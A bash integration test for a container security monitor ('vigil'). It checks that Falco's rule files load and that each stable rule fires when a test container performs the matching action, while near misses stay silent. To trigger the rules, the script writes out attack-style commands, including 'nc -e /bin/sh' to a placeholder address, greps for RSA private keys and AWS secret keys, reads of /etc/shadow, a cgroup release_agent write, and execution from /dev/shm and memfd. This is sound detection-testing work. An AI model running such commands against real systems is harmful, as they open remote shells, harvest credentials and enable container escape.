#!/bin/bash
# test_falco_rules: Falco's stable rules file loads unchanged (`vigil rules check`), its
# incubating and sandbox files load but for rules that name what vigil lacks, and the agent
# running the stable file raises each rule's alert when a container makes the move the rule
# describes, wherever vigil captures that move; a neighbour container making near misses raises
# none.
#
# The Falco files are the ones beside the clone, in ../shared/peers/falco (as for the unit
# tests): without them the test cannot run, which fails it under CI=true.
#
# Every rule of the stable file is either triggered, its alert asserted (rule, container id, a
# key output field), or named in a diagnostic saying why it cannot fire here (a move vigil does
# not capture, or one this machine cannot make); a rule the file gains and the test does not
# know fails the test. The moves:
# - one container (--cap-add SYS_ADMIN, NET_ADMIN, NET_RAW) makes most of them in turn (the
#   SSH client's connect must succeed or be in progress to count: the container gives its
#   loopback a public address and listens there; Docker mounts /dev/shm noexec, the container
#   has an exec one of its own);
#   programs a rule names by their process name (nginx, ssh, sshd) are copies of vigil-helper
#   in /tmp, run through their path so that they are exec'd;
# - the sensitive read "after startup" needs a process older than 5 s (Falco's proc_is_new):
#   that container sleeps 6 s first, and runs while the others do;
# - a shell as the entrypoint of a container with a terminal (-t), a system user (--user
#   65534) below a program named sshd;
# - "Contact K8S API Server From Container" names the API server by fd.sip.name, which vigil
#   takes from its own /etc/hosts: the agent runs in a mount namespace of its own where a file
#   of the test's is bind-mounted on /etc/hosts (the machine's file is not touched).
#
# Run: OUTPUT=build bash tests/integration/test_falco_rules.sh   (root; needs build/vigil and
# build/tests/helpers/vigil-helper)

# The jq filters are single-quoted on purpose: their $names are jq's, not the shell's.
# shellcheck disable=SC2016
# tap_ok never fails: `COND && tap_ok ... || tap_fail ...` is an if-then-else.
# shellcheck disable=SC2015
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"

require_root
require_cmd jq docker dockerd unshare mount

FALCO_DIR=$VIGIL_REPO/../shared/peers/falco
STABLE=$FALCO_DIR/falco_rules.yaml
INCUBATING=$FALCO_DIR/falco-incubating_rules.yaml
SANDBOX=$FALCO_DIR/falco-sandbox_rules.yaml
for file in "$STABLE" "$INCUBATING" "$SANDBOX"; do
	if [ ! -r "$file" ]; then
		# CI has ../shared beside the clone: there, a missing file is a failure.
		[ "${CI:-}" = true ] && tap_bail "Falco's rules files are beside the clone" "$file is missing"
		skip_all "$file is missing (Falco's rules files are expected in ../shared/peers/falco)"
	fi
done

# ---- vigil rules check ----

# rule_names FILE... : the names of the rules the files define, one a line, sorted, unique.
rule_names() {
	sed -n "s/^- rule: *//p" "$@" | sed "s/^\(['\"]\)\(.*\)\1 *\$/\2/; s/ *\$//" | sort -u
}

# check_files LABEL MIN_LOADED MAX_FAILED FILE... : `vigil rules check` of the FILEs lists
# every rule they define; each FAILED line names what vigil lacks; at least MIN_LOADED rules
# load and at most MAX_FAILED fail (the counts of today, that may only get better).
check_files() {
	local label=$1 min_loaded=$2 max_failed=$3 text json listed expected failed_lines bad
	shift 3
	text=$("$VIGIL_BIN" rules check "$@" 2>/dev/null)
	json=$("$VIGIL_BIN" rules check --json "$@" 2>/dev/null)
	listed=$(jq -r 'select(.type == "rule") | .rule' <<<"$json" | sort -u)
	expected=$(rule_names "$@")
	assert_eq "$listed" "$expected" "rules check $label: lists every rule the files define"
	failed_lines=$(grep '^FAILED ' <<<"$text")
	bad=$(grep -Ev "vigil does not have the field [[:alnum:]_.]+ \(.+\)|no event has an argument '[^']+'" \
		<<<"$failed_lines")
	assert_eq "$bad" "" "rules check $label: each FAILED line names the field or argument vigil lacks"
	jq -se --argjson n "$(grep -c . <<<"$failed_lines")" '.[-1] | .type == "summary" and .failed == $n' \
		<<<"$json" >/dev/null &&
		tap_ok "rules check $label: as many FAILED lines as the summary counts failed rules" ||
		tap_fail "rules check $label: as many FAILED lines as the summary counts failed rules" "$text"
	jq -se --argjson min "$min_loaded" --argjson max "$max_failed" \
		'.[-1] | .loaded >= $min and .failed <= $max' <<<"$json" >/dev/null &&
		tap_ok "rules check $label: at least $min_loaded rules load, at most $max_failed fail" ||
		tap_fail "rules check $label: at least $min_loaded rules load, at most $max_failed fail" \
			"$(tail -n 1 <<<"$json")"
}

text=$("$VIGIL_BIN" rules check "$STABLE" 2>"$T/check.err")
assert_eq "$?" 0 "rules check of Falco's stable file exits 0"
summary=$(grep -E '^[0-9]+ rules: ' <<<"$text")
[[ $summary == "25 rules: "*", 0 failed;"* ]] && tap_ok "rules check: the stable file's 25 rules, 0 failed" ||
	tap_fail "rules check: the stable file's 25 rules, 0 failed" "$text"
check_files "stable" 24 0 "$STABLE"
STABLE_JSON=$("$VIGIL_BIN" rules check --json "$STABLE" 2>/dev/null)
check_files "stable + incubating" 52 2 "$STABLE" "$INCUBATING"
check_files "stable + sandbox" 46 1 "$STABLE" "$SANDBOX"

# ---- the agent with the stable file ----

IMAGE=vigil-test-falco
container_test_setup "$IMAGE"
W=$(random_word falco)

# The agent's own /etc/hosts names the API server's address (see the top of the file); another
# address has another name, for the near miss.
K8S_IP=203.0.113.10
OTHER_IP=203.0.113.11
printf '%s\n' "127.0.0.1 localhost" "$K8S_IP kubernetes.default.svc.cluster.local kubernetes" \
	"$OTHER_IP api.example.test" >"$T/hosts"
# The same pid from env to vigil (every step execs the next): vigil_stop's SIGINT reaches it.
cat >"$T/vigil-with-hosts" <<EOF
#!/bin/sh
exec unshare --mount --propagation private /bin/sh -c 'mount --bind "\$0" /etc/hosts && exec "\$@"' \\
	"$T/hosts" "$VIGIL_BIN" "\$@"
EOF
chmod +x "$T/vigil-with-hosts"
VIGIL_BIN=$T/vigil-with-hosts

out=$T/falco.jsonl
vigil_start "$out" -r "$STABLE" --engine-socket "$T/docker.sock" || tap_bail "vigil starts with Falco's stable file"
grep -q '^vigil: rules: 24 loaded, 0 disabled, 0 skipped, 1 inert ' "$out.err" &&
	tap_ok "vigil run loads the stable file's rules" || tap_fail "vigil run loads the stable file's rules" "$(cat "$out.err")"

# The late reader first, so that its 6 s pass while the others run. The sleep is the move, not
# a wait for events: Falco's proc_is_new counts a process younger than 5 s as starting up.
late=$(docker run -d --network none "$IMAGE" /bin/sh -c '
	echo secret >/etc/shadow
	cp /bin/vigil-helper /tmp/nginx
	sleep 6
	exec /tmp/nginx open /etc/shadow r' 2>&1) || tap_bail "late: docker run" "$late"

run_container moves --cap-add SYS_ADMIN --cap-add NET_ADMIN --cap-add NET_RAW --tmpfs /dev/shm:rw,exec -- /bin/sh -c "
	echo secret >/etc/shadow
	echo == read_shadow; vigil-helper open /etc/shadow r
	echo == traversal; vigil-helper run vigil-helper open /tmp/../../etc/passwd r
	cp /bin/vigil-helper /tmp/nginx
	echo == shell_untrusted; /tmp/nginx run /bin/sh -c 'exit 0'
	echo == netcat; /bin/nc -e /bin/sh 203.0.113.9 4444
	echo == grep_key; /bin/grep 'BEGIN RSA PRIVATE' /etc/passwd
	echo == grep_aws; /bin/grep aws_secret_access_key /etc/passwd
	echo == clear_log; mkdir -p /var/log && echo x >/var/log/syslog
	echo == shred; echo data >/tmp/data && /bin/shred /tmp/data
	echo == symlink; vigil-helper symlink /etc/shadow /tmp/shadow-symlink
	echo == hardlink; vigil-helper link /etc/shadow /tmp/shadow-hardlink
	echo == packet; vigil-helper socket packet raw
	echo == release_agent; mkdir /tmp/cgroup && echo 1 >/tmp/cgroup/release_agent
	echo == ptrace_attach; vigil-helper ptrace_attach
	echo == ptrace_traceme; vigil-helper ptrace_traceme
	echo == dev_shm_script; echo 'exit 0' >/dev/shm/payload.sh && /bin/sh /dev/shm/payload.sh
	echo == dev_shm_exe; cp /bin/vigil-helper /dev/shm/payload && /dev/shm/payload echo $W
	echo == drop; cp /bin/vigil-helper /tmp/dropped && /tmp/dropped echo $W
	echo == ssh; ip addr add 203.0.113.5/32 dev lo && cp /bin/vigil-helper /tmp/ssh &&
		/tmp/ssh connect_listening 203.0.113.5 443
	echo == k8s; vigil-helper connect_inet $K8S_IP 443
	echo == memfd; vigil-helper exec_memfd echo $W
	exit 0"
moves=$CID

run_container tty -t -- /bin/sh -c "vigil-helper echo $W; exit 0"
tty=$CID

run_container system-user --user 65534 -- /bin/sh -c "
	cp /bin/vigil-helper /tmp/sshd && /tmp/sshd run vigil-helper echo $W
	exit 0"
system_user=$CID

# Near misses, each one condition short of a rule's: a shell (trusted) reads /etc/shadow; a
# file that is not sensitive; one ../ where the traversal rule wants two; a shell below a
# program that is no server; nc without -e; grep and find for nothing secret; a log appended
# to, not truncated, and a file that is no log truncated; rm; links to /etc/passwd; an inet
# socket; a release_agent written without CAP_SYS_ADMIN; a script run outside /dev/shm; a
# connect to an address /etc/hosts gives another name; only programs of the image run.
run_container neighbour -- /bin/sh -c "
	echo secret >/etc/shadow
	echo == shell_reads_shadow; read line </etc/shadow
	echo == read_passwd; vigil-helper open /etc/passwd r
	echo == one_dotdot; vigil-helper run vigil-helper open /tmp/../etc/passwd r
	echo == shell_below_helper; vigil-helper run /bin/sh -c 'exit 0'
	echo == netcat; /bin/nc -w 1 203.0.113.9 4444
	echo == grep; /bin/grep 'BEGIN CERTIFICATE' /etc/passwd
	echo == find; /bin/find /root -name credentials
	echo == logs; mkdir -p /var/log && echo x >>/var/log/syslog && echo x >/tmp/notes.txt
	echo == rm; /bin/rm /tmp/notes.txt
	echo == links; vigil-helper symlink /etc/passwd /tmp/passwd-symlink; vigil-helper link /etc/passwd /tmp/passwd-hardlink
	echo == socket; vigil-helper socket inet dgram
	echo == release_agent; echo 1 >/tmp/release_agent
	echo == script; echo 'exit 0' >/tmp/payload.sh && /bin/sh /tmp/payload.sh
	echo == connect; vigil-helper connect_inet $OTHER_IP 443
	echo == base_image; vigil-helper echo $W
	exit 0"
neighbour=$CID

# Debugfs in a privileged container, where --privileged works.
privileged=
if privileged_out=$(docker run -d --network none --privileged "$IMAGE" /bin/sh -c \
	"cp /bin/vigil-helper /tmp/debugfs && /tmp/debugfs echo $W" 2>&1); then
	assert_eq "$(timeout 60 docker wait "$privileged_out" 2>&1)" 0 "privileged: the container exits 0"
	privileged=$(docker inspect -f '{{.Id}}' "$privileged_out")
fi

# The module system calls, where this kernel has their tracepoints (CONFIG_MODULES), from a
# container without seccomp (Docker's profile refuses them) that has CAP_SYS_MODULE.
modules=
if [ -e /sys/kernel/tracing/events/syscalls/sys_exit_init_module ]; then
	modules=$(docker run -d --network none --cap-add SYS_MODULE --security-opt seccomp=unconfined "$IMAGE" \
		vigil-helper init_module "$W" 2>&1) || tap_bail "modules: docker run" "$modules"
	assert_eq "$(timeout 60 docker wait "$modules" 2>&1)" 0 "modules: the container exits 0"
	modules=$(docker inspect -f '{{.Id}}' "$modules")
fi

assert_eq "$(timeout 60 docker wait "$late" 2>&1)" 0 "late: the container exits 0"
late=$(docker inspect -f '{{.Id}}' "$late")

vigil_stop
assert_eq "$?" 0 "vigil exits 0 on SIGINT"

# ---- the alerts ----

JSON_SHOW='.type == "alert"'
# alert($rule; $cid): the alerts of $rule for events of container $cid; f($k): an alert's output
# field $k.
JSON_DEFS='
	def alert($rule; $cid): .[] | select(.type == "alert" and .rule == $rule and .event.container.full_id == $cid);
	def f($k): .output_fields[$k];'
COVERED=()

# fires RULE CID FILTER DESC [JQ_OPTION...] : RULE alerted for an event of container CID, and
# one of those alerts passes FILTER (jq, over the alert record).
fires() {
	local rule=$1 cid=$2 filter=$3 desc=$4
	shift 4
	COVERED+=("$rule")
	assert_json "$out" "any(alert(\$rule; \$cid); $filter)" "$rule: $desc" --arg rule "$rule" --arg cid "$cid" "$@"
}

# cannot RULE REASON : RULE cannot fire on this machine; says why.
cannot() {
	COVERED+=("$1")
	diag "$1: cannot fire here: $2"
}

fires "Directory traversal monitored file read" "$moves" \
	'f("fd.name") == "/etc/passwd" and f("fd.nameraw") == "/tmp/../../etc/passwd" and f("proc.pname") == "vigil-helper"' \
	"a helper below a helper opens /tmp/../../etc/passwd"
fires "Read sensitive file trusted after startup" "$late" \
	'f("fd.name") == "/etc/shadow" and f("proc.name") == "nginx"' \
	"nginx, 6 s old, reads /etc/shadow"
fires "Read sensitive file untrusted" "$moves" \
	'f("fd.name") == "/etc/shadow" and f("proc.name") == "vigil-helper" and .event.openat.flags == "O_RDONLY"' \
	"the helper reads /etc/shadow"
fires "Run shell untrusted" "$moves" \
	'f("proc.pexe") == "/tmp/nginx" and f("proc.cmdline") == "sh -c exit 0"' \
	"nginx starts a shell"
fires "System user interactive" "$system_user" \
	'f("user.name") == "nobody" and f("proc.pname") == "sshd" and f("proc.cmdline") == "vigil-helper echo \($w)"' \
	"nobody runs a program below sshd" --arg w "$W"
fires "Terminal shell in container" "$tty" \
	'f("proc.name") == "sh" and f("proc.tty") != "0" and (.event.exec.tty > 0)' \
	"the entrypoint shell of a container with a terminal"
fires "Contact K8S API Server From Container" "$moves" \
	'f("fd.name") == "\($ip):443" and f("proc.name") == "vigil-helper"' \
	"a connect to the address /etc/hosts names kubernetes.default.svc.cluster.local" --arg ip "$K8S_IP"
fires "Netcat Remote Code Execution in Container" "$moves" \
	'f("proc.cmdline") == "nc -e /bin/sh 203.0.113.9 4444"' "nc -e /bin/sh"
fires "Search Private Keys or Passwords" "$moves" \
	'f("proc.cmdline") == "grep BEGIN RSA PRIVATE /etc/passwd"' "grep for a private key"
fires "Find AWS Credentials" "$moves" \
	'f("proc.cmdline") == "grep aws_secret_access_key /etc/passwd"' "grep for an AWS secret key"
fires "Clear Log Activities" "$moves" \
	'f("fd.name") == "/var/log/syslog" and (.event.openat.flags | contains("O_TRUNC"))' \
	"/var/log/syslog truncated"
fires "Remove Bulk Data from Disk" "$moves" \
	'f("proc.cmdline") == "shred /tmp/data"' "shred"
fires "Create Symlink Over Sensitive Files" "$moves" \
	'f("evt.arg.target") == "/etc/shadow" and f("evt.arg.linkpath") == "/tmp/shadow-symlink"' \
	"a symlink to /etc/shadow"
fires "Create Hardlink Over Sensitive Files" "$moves" \
	'f("evt.arg.oldpath") == "/etc/shadow" and f("evt.arg.newpath") == "/tmp/shadow-hardlink"' \
	"a hard link of /etc/shadow"
fires "Packet socket created in container" "$moves" \
	'f("evt.args") | startswith("domain=AF_PACKET ")' "socket(AF_PACKET)"
cannot "Redirect STDOUT/STDIN to Network Connection in Container" \
	"not captured by vigil: it watches no dup, dup2 or dup3 (rules check lists the rule as inert)"
jq -se 'any(.[]; .rule == "Redirect STDOUT/STDIN to Network Connection in Container" and .status == "inert")' \
	<<<"$STABLE_JSON" >/dev/null && tap_ok "rules check lists the dup rule as inert" ||
	tap_fail "rules check lists the dup rule as inert" "$STABLE_JSON"
if [ -n "$modules" ]; then
	fires "Linux Kernel Module Injection Detected" "$modules" \
		'f("proc.args") == "init_module \($w)" and f("evt.type") == "init_module"' \
		"init_module with CAP_SYS_MODULE" --arg w "$W"
else
	cannot "Linux Kernel Module Injection Detected" \
		"not possible on this machine: its kernel has no CONFIG_MODULES, so no init_module/finit_module tracepoints"
fi
if [ -n "$privileged" ]; then
	fires "Debugfs Launched in Privileged Container" "$privileged" \
		'f("proc.name") == "debugfs"' "debugfs in a privileged container"
else
	cannot "Debugfs Launched in Privileged Container" \
		"not possible on this machine: docker run --privileged fails ($(grep -m 1 -i error <<<"$privileged_out"))"
fi
fires "Detect release_agent File Container Escapes" "$moves" \
	'f("fd.name") == "/tmp/cgroup/release_agent" and (f("thread.cap_effective") | split(" ") | any(. == "CAP_SYS_ADMIN"))' \
	"a write open of a release_agent file with CAP_SYS_ADMIN"
fires "PTRACE attached to process" "$moves" \
	'.event.ptrace.request == "PTRACE_ATTACH" and f("proc.cmdline") == "vigil-helper ptrace_attach"' \
	"PTRACE_ATTACH"
fires "PTRACE anti-debug attempt" "$moves" \
	'.event.ptrace.request == "PTRACE_TRACEME" and f("proc.name") == "vigil-helper"' "PTRACE_TRACEME"
fires "Execution from /dev/shm" "$moves" \
	'f("proc.cmdline") == "sh /dev/shm/payload.sh"' "a shell runs a script in /dev/shm"
fires "Execution from /dev/shm" "$moves" \
	'f("proc.exepath") == "/dev/shm/payload" and f("proc.cmdline") == "payload echo \($w)"' \
	"a program in /dev/shm runs" --arg w "$W"
fires "Drop and execute new binary in container" "$moves" \
	'f("proc.exe") == "/tmp/dropped" and f("proc.cmdline") == "dropped echo \($w)"' \
	"a program copied into the container runs" --arg w "$W"
fires "Disallowed SSH Connection Non Standard Port" "$moves" \
	'f("fd.name") == "203.0.113.5:443" and f("proc.exepath") == "/tmp/ssh"' \
	"ssh connects to port 443 of a public address"
fires "Fileless execution via memfd_create" "$moves" \
	'.event.exec.exe_memfd and (f("proc.cmdline") | endswith("echo \($w)"))' \
	"a program runs from a memfd" --arg w "$W"

# Every rule of the stable file is triggered above or explained.
missing=$(comm -23 <(jq -r 'select(.type == "rule") | .rule' <<<"$STABLE_JSON" | sort -u) \
	<(printf '%s\n' "${COVERED[@]}" | sort -u))
assert_eq "$missing" "" "every rule of the stable file is triggered or explained"

# The neighbour's near misses were seen, and raised nothing.
assert_json "$out" '[.[] | select(.container.full_id? == $cid)] |
	any(.type == "openat" and .openat.name == "/etc/shadow" and .proc.comm == "sh" and .openat.flags == "O_RDONLY")
	and any(.type == "openat" and .openat.path == "/etc/passwd" and .openat.name == "/tmp/../etc/passwd")
	and any(.type == "exec" and .proc.args == ["/bin/grep", "BEGIN CERTIFICATE", "/etc/passwd"])
	and any(.type == "exec" and .proc.args == ["/bin/sh", "-c", "exit 0"] and .parent.comm == "vigil-helper")
	and any(.type == "symlink" and .symlink.target == "/etc/passwd")
	and any(.type == "openat" and .openat.name == "/tmp/release_agent")
	and any(.type == "socket" and .socket.domain == "AF_INET")
	and any(.type == "connect" and .connect.address.address == $ip)' \
	"neighbour: its near misses are reported as events" --arg cid "$neighbour" --arg ip "$OTHER_IP"
assert_json "$out" '[.[] | select(.type == "alert" and .event.container.full_id == $cid)] | length == 0' \
	"neighbour: its near misses raise no alert" --arg cid "$neighbour"

tap_done
